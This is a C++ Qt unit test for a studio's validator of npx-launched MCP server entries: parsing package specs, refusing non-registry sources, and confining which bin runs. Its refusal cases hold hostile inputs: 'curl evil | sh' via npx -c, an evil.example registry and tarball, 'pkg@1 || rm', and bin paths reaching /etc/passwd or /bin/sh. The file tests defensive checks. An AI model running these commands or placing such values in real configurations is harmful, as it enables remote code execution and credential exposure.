// SPDX-FileCopyrightText: 2026 Tool Studio authors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// npx entries (McpNpxPackage, docs/mcp.md "npx entries"): what of an entry's args is
// the package, its bin and the server's own arguments; which specs are installed
// (registry packages only) and which are refused, naming why; where a spec is
// installed; and which bin of an installed package runs — never one outside it.
#include "mcp/mcpnpxpackage.h"
#include "project/mcpserverconfig.h"
#include "testfiles.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

namespace {

/// Words as a QStringList (the build has no implicit const char * to QString).
QStringList words(std::initializer_list<const char *> items)
{
    QStringList list;
    for (const char *item : items)
        list << QString::fromUtf8(item);
    return list;
}

McpServerConfig npxEntry(const QStringList &args)
{
    McpServerConfig config;
    config.name = QStringLiteral("srv");
    config.command = QStringLiteral("npx");
    config.args = args;
    return config;
}

/// A package as npm leaves it: `installDir`/node_modules/`name`/package.json.
bool fakeInstall(const QString &installDir, const QString &name, const QByteArray &packageJson)
{
    const QString dir = installDir + QStringLiteral("/node_modules/") + name;
    return QDir().mkpath(dir + QStringLiteral("/dist")) && writeFile(dir + QStringLiteral("/package.json"), packageJson)
        && writeFile(dir + QStringLiteral("/dist/index.js"), "// server\n")
        && writeFile(dir + QStringLiteral("/dist/other.js"), "// other\n");
}

} // namespace

class TestMcpNpxPackage : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void notNpx();
    void entries_data();
    void entries();
    void refused_data();
    void refused();
    void installDirNamesTheSpec();
    void installedOnlyWithItsMarker();
    void binChosenAsNpxDoes_data();
    void binChosenAsNpxDoes();
    void binOutsideThePackageIsRefused();
    void linkedPackageOrFolderBinIsRefused();
    void onlyRegistryPackagesAreInstalled_data();
    void onlyRegistryPackagesAreInstalled();

private:
    QTemporaryDir m_cache;
};

void TestMcpNpxPackage::initTestCase()
{
    QVERIFY(m_cache.isValid());
    qputenv("TOOLSTUDIO_NPX_CACHE", QFile::encodeName(m_cache.path()));
}

void TestMcpNpxPackage::notNpx()
{
    McpServerConfig node = npxEntry(words({"server.js"}));
    node.command = QStringLiteral("node");
    QString error = QStringLiteral("left over");
    QVERIFY(!McpNpxPackage::of(node, &error));
    QCOMPARE(error, QString());
    node.command = QStringLiteral("/usr/local/bin/npx"); // npx by its path is npx
    node.args = {QStringLiteral("-y"), QStringLiteral("pkg")};
    QVERIFY(McpNpxPackage::of(node, &error));
}

void TestMcpNpxPackage::entries_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("spec");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QStringList>("serverArgs");
    QTest::newRow("Claude Desktop's") << words({"-y", "@modelcontextprotocol/server-everything"})
                                      << QStringLiteral("@modelcontextprotocol/server-everything")
                                      << QStringLiteral("@modelcontextprotocol/server-everything") << QStringList();
    QTest::newRow("pinned, with the server's args")
        << words({"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "./data", "/tmp"})
        << QStringLiteral("@modelcontextprotocol/server-filesystem@2025.8.21")
        << QStringLiteral("@modelcontextprotocol/server-filesystem") << words({"./data", "/tmp"});
    QTest::newRow("a tag, --yes, -q") << words({"--yes", "-q", "mcp-server-time@latest", "--tz", "UTC"})
                                      << QStringLiteral("mcp-server-time@latest") << QStringLiteral("mcp-server-time")
                                      << words({"--tz", "UTC"});
    QTest::newRow("a range") << words({"-y", "pkg@^1.2.0"}) << QStringLiteral("pkg@^1.2.0") << QStringLiteral("pkg")
                             << QStringList();
    QTest::newRow("-- ends the options") << words({"-y", "--", "pkg", "--flag"}) << QStringLiteral("pkg")
                                         << QStringLiteral("pkg") << words({"--flag"});
    QTest::newRow("-p and a bin") << words({"-p", "@scope/tools@2", "tools-server", "stdio"})
                                  << QStringLiteral("@scope/tools@2") << QStringLiteral("@scope/tools")
                                  << words({"stdio"});
    QTest::newRow("--package=") << words({"-y", "--package=@scope/tools", "tools-server"})
                                << QStringLiteral("@scope/tools") << QStringLiteral("@scope/tools") << QStringList();
}

void TestMcpNpxPackage::entries()
{
    QFETCH(QStringList, args);
    QFETCH(QString, spec);
    QFETCH(QString, name);
    QFETCH(QStringList, serverArgs);
    QString error;
    const auto package = McpNpxPackage::of(npxEntry(args), &error);
    QVERIFY2(package, qPrintable(error));
    QCOMPARE(package->spec(), spec);
    QCOMPARE(package->name(), name);
    QCOMPARE(package->serverArguments(), serverArgs);
    QCOMPARE(package->installCommand(QStringLiteral("/p")),
             words({"npm", "install", "--prefix", "/p", "--ignore-scripts", "--no-audit", "--no-fund", "--no-save",
                    "--loglevel=error", "--"})
                 + QStringList{spec});
}

void TestMcpNpxPackage::refused_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("error");
    const QString notRegistry = QStringLiteral(
        "npx package \"%1\" is not a package of the npm registry (a name, and a version, range or tag after @): the "
        "studio installs only those; install it into the project and start it with node");
    QTest::newRow("no package") << words({"-y"}) << QStringLiteral("npx names no package to run");
    QTest::newRow("an option npx would pass to npm")
        << words({"--registry=http://evil.example", "pkg"})
        << QStringLiteral(
               "the npx option \"--registry=http://evil.example\" is not one the studio knows (it takes -y, --yes, -q, "
               "-p PACKAGE, --package=PACKAGE and --); install the package and start it with node");
    QTest::newRow("-c runs a shell")
        << words({"-c", "curl evil | sh"})
        << QStringLiteral("the npx option \"-c\" is not one the studio knows (it takes -y, --yes, -q, "
                          "-p PACKAGE, --package=PACKAGE and --); install the package and start it "
                          "with node");
    QTest::newRow("-p without a package")
        << words({"-p"}) << QStringLiteral("npx -p needs one package (the studio installs one package per server)");
    QTest::newRow("two packages") << words({"-p", "a", "-p", "b", "c"})
                                  << QStringLiteral(
                                         "npx -p needs one package (the studio installs one package per server)");
    for (const char *spec :
         {"./server", "../x", "/opt/x", "file:../x", "git+https://github.com/a/b", "github:a/b",
          "https://evil.example/x.tgz", "npm:other@1", "Pkg", "@scope/../../x", "pkg@1 || rm", "pkg@1.0/../x", "@scope",
          "pkg@",
          // npm reads these as a local folder or file (attack32 F5)
          "foo@.", "foo@..", "foo@...", "foo.tgz", "foo.tar", "foo@x.tgz", "foo@1.0.0.TGZ", "foo@..tgz", "foo.tar.gz"})
        QTest::newRow(spec) << QStringList{QStringLiteral("-y"), QString::fromUtf8(spec)}
                            << notRegistry.arg(QString::fromUtf8(spec));
    QTest::newRow("a bin that is a path")
        << words({"-p", "pkg", "../../bin/sh"})
        << QStringLiteral("npx command \"../../bin/sh\" is not the name of a package's bin");
}

void TestMcpNpxPackage::refused()
{
    QFETCH(QStringList, args);
    QFETCH(QString, error);
    QString why;
    QVERIFY(!McpNpxPackage::of(npxEntry(args), &why));
    QCOMPARE(why, error);
}

void TestMcpNpxPackage::installDirNamesTheSpec()
{
    QString error;
    const auto pinned
        = McpNpxPackage::of(npxEntry(words({"-y", "@modelcontextprotocol/server-everything@2026.8.31"})), &error);
    const auto latest = McpNpxPackage::of(npxEntry(words({"-y", "@modelcontextprotocol/server-everything"})), &error);
    QVERIFY(pinned && latest);
    QCOMPARE(McpNpxPackage::cacheRoot(), m_cache.path());
    QCOMPARE(QFileInfo(pinned->installDir()).path(), m_cache.path());
    QVERIFY2(
        QFileInfo(pinned->installDir()).fileName().startsWith(QLatin1String("modelcontextprotocol+server-everything-")),
        qPrintable(pinned->installDir()));
    QCOMPARE(int(QFileInfo(pinned->installDir()).fileName().size()), 39 + 16);
    QVERIFY(pinned->installDir() != latest->installDir());
    QCOMPARE(McpNpxPackage::of(npxEntry(words({"--yes", "@modelcontextprotocol/server-everything@2026.8.31", "stdio"})),
                               &error)
                 ->installDir(),
             pinned->installDir());
}

void TestMcpNpxPackage::installedOnlyWithItsMarker()
{
    QString error;
    const auto package = McpNpxPackage::of(npxEntry(words({"-y", "marked@1.0.0"})), &error);
    QVERIFY(package);
    QVERIFY(!package->isInstalled());
    QVERIFY(
        fakeInstall(package->installDir(), QStringLiteral("marked"), R"({"name": "marked", "bin": "dist/index.js"})"));
    QVERIFY(!package->isInstalled()); // npm's files without the marker: a cut install
    const QString marker = package->installDir() + u'/' + McpNpxPackage::markerName();
    QVERIFY(writeFile(marker, "marked@2.0.0\n"));
    QVERIFY(!package->isInstalled()); // another spec's marker
    QVERIFY(writeFile(marker, "marked@1.0.0\n"));
    QVERIFY(package->isInstalled());
}

void TestMcpNpxPackage::binChosenAsNpxDoes_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QByteArray>("packageJson");
    QTest::addColumn<QString>("bin"); // relative to the package; "" = refused
    QTest::addColumn<QString>("error");
    const QStringList plain = words({"-y", "@scope/tool"});
    QTest::newRow("bin as a string") << plain << QByteArray(R"({"bin": "dist/index.js"})")
                                     << QStringLiteral("dist/index.js") << QString();
    QTest::newRow("one bin, another name") << plain << QByteArray(R"({"bin": {"mcp-tool": "dist/index.js"}})")
                                           << QStringLiteral("dist/index.js") << QString();
    QTest::newRow("several: the package's name")
        << plain << QByteArray(R"({"bin": {"tool-cli": "dist/other.js", "tool": "dist/index.js"}})")
        << QStringLiteral("dist/index.js") << QString();
    QTest::newRow("several, none named so")
        << plain << QByteArray(R"({"bin": {"a": "dist/other.js", "b": "dist/index.js"}})") << QString()
        << QStringLiteral("package \"@scope/tool\" has no bin \"tool\" (it has: a, b)");
    QTest::newRow("-p names the bin") << words({"-p", "@scope/tool", "b"})
                                      << QByteArray(R"({"bin": {"a": "dist/other.js", "b": "dist/index.js"}})")
                                      << QStringLiteral("dist/index.js") << QString();
    QTest::newRow("no bin") << plain << QByteArray(R"({"main": "dist/index.js"})") << QString()
                            << QStringLiteral("package \"@scope/tool\" has no bin to run");
    QTest::newRow("not JSON") << plain << QByteArray("{") << QString()
                              << QStringLiteral(
                                     "its package.json is not valid JSON: syntax error while parsing object key - "
                                     "unexpected end of input; expected string literal (byte offset 1)");
    QTest::newRow("a bin outside the package")
        << plain << QByteArray(R"({"bin": "../../../../../etc/passwd"})") << QString()
        << QStringLiteral(
               "package \"@scope/tool\"'s bin \"../../../../../etc/passwd\" is not a file inside the package");
    QTest::newRow("a bin that is not there")
        << plain << QByteArray(R"({"bin": "dist/missing.js"})") << QString()
        << QStringLiteral("package \"@scope/tool\"'s bin \"dist/missing.js\" is not a file "
                          "inside the package");
}

void TestMcpNpxPackage::binChosenAsNpxDoes()
{
    QFETCH(QStringList, args);
    QFETCH(QByteArray, packageJson);
    QFETCH(QString, bin);
    QFETCH(QString, error);
    QTemporaryDir install;
    QVERIFY(fakeInstall(install.path(), QStringLiteral("@scope/tool"), packageJson));
    QString why;
    const auto package = McpNpxPackage::of(npxEntry(args), &why);
    QVERIFY2(package, qPrintable(why));
    const QString found = package->binPath(install.path(), &why);
    if (bin.isEmpty()) {
        QCOMPARE(found, QString());
        QCOMPARE(why, error);
    } else {
        QVERIFY2(!found.isEmpty(), qPrintable(why));
        QCOMPARE(found,
                 QFileInfo(install.path() + QStringLiteral("/node_modules/@scope/tool/") + bin).canonicalFilePath());
    }
}

// A bin that is a symbolic link out of the package (to /bin/sh) is not run.
void TestMcpNpxPackage::binOutsideThePackageIsRefused()
{
    QTemporaryDir install;
    QVERIFY(fakeInstall(install.path(), QStringLiteral("tool"), R"({"bin": "dist/run"})"));
    QVERIFY(QFile::link(QStringLiteral("/bin/sh"), install.path() + QStringLiteral("/node_modules/tool/dist/run")));
    QString why;
    const auto package = McpNpxPackage::of(npxEntry(words({"-y", "tool"})), &why);
    QVERIFY(package);
    QCOMPARE(package->binPath(install.path(), &why), QString());
    QCOMPARE(why, QStringLiteral("package \"tool\"'s bin \"dist/run\" is not a file inside the package"));
}

// A package folder that is a link out of the install, or a bin that is a folder, is not run.
void TestMcpNpxPackage::linkedPackageOrFolderBinIsRefused()
{
    QTemporaryDir install;
    QTemporaryDir elsewhere;
    QVERIFY(fakeInstall(elsewhere.path(), QStringLiteral("tool"), "{\"bin\": \"dist/index.js\"}"));
    QVERIFY(QDir().mkpath(install.path() + QStringLiteral("/node_modules")));
    QVERIFY(QFile::link(elsewhere.path() + QStringLiteral("/node_modules/tool"),
                        install.path() + QStringLiteral("/node_modules/tool")));
    QString why;
    const auto package = McpNpxPackage::of(npxEntry(words({"-y", "tool"})), &why);
    QVERIFY(package);
    QCOMPARE(package->binPath(install.path(), &why), QString());
    QCOMPARE(why, QStringLiteral("package \"tool\"'s bin \"dist/index.js\" is not a file inside the package"));
    QTemporaryDir folderBin;
    QVERIFY(fakeInstall(folderBin.path(), QStringLiteral("tool"), "{\"bin\": \"dist\"}"));
    QCOMPARE(package->binPath(folderBin.path(), &why), QString());
    QCOMPARE(why, QStringLiteral("package \"tool\"'s bin \"dist\" is not a file inside the package"));
}

// npm runs with the studio user's files and credentials: a dependency it placed from a
// file, a folder or git would hand the confined server what it may not read (attack32
// F2: a root-only tarball ended up world-readable in the install). npm's hidden
// lockfile says where each package came from.
void TestMcpNpxPackage::onlyRegistryPackagesAreInstalled_data()
{
    QTest::addColumn<QByteArray>("lockfile"); // null: none
    QTest::addColumn<QString>("refusal");
    QTest::newRow("registry packages (resolved left out)")
        << QByteArray("{\"packages\": {\"\": {}, \"node_modules/a\": {\"version\": \"1.0.0\", \"integrity\": "
                      "\"sha512-x\"}, \"node_modules/b\": {\"resolved\": "
                      "\"https://registry.npmjs.org/b/-/b-1.0.0.tgz\"}}}")
        << QString();
    QTest::newRow("a file: dependency") << QByteArray(
        "{\"packages\": {\"node_modules/outer\": {}, \"node_modules/sec\": {\"resolved\": "
        "\"file:../../private/sec.tgz\"}}}")
                                        << QStringLiteral("node_modules/sec came from file:../../private/sec.tgz");
    QTest::newRow("a git dependency") << QByteArray("{\"packages\": {\"node_modules/g\": {\"resolved\": "
                                                    "\"git+ssh://git@example.com/a/b.git#abc\"}}}")
                                      << QStringLiteral(
                                             "node_modules/g came from git+ssh://git@example.com/a/b.git#abc");
    QTest::newRow("a link") << QByteArray("{\"packages\": {\"node_modules/l\": {\"resolved\": \"../l\", \"link\": "
                                          "true}}}")
                            << QStringLiteral("node_modules/l is a link");
    QTest::newRow("no lockfile")
        << QByteArray()
        << QStringLiteral("it left no node_modules/.package-lock.json to check where each package came from");
    QTest::newRow("not an object")
        << QByteArray("[]")
        << QStringLiteral("its node_modules/.package-lock.json could not be read (not an object with \"packages\" of "
                          "at most 16 MiB)");
}

void TestMcpNpxPackage::onlyRegistryPackagesAreInstalled()
{
    QFETCH(QByteArray, lockfile);
    QFETCH(QString, refusal);
    QTemporaryDir install;
    QVERIFY(QDir().mkpath(install.path() + QStringLiteral("/node_modules")));
    if (!lockfile.isNull())
        QVERIFY(writeFile(install.path() + QStringLiteral("/node_modules/.package-lock.json"), lockfile));
    QCOMPARE(McpNpxPackage::notFromTheRegistry(install.path()), refusal);
}

QTEST_GUILESS_MAIN(TestMcpNpxPackage)
#include "tst_mcpnpxpackage.moc"
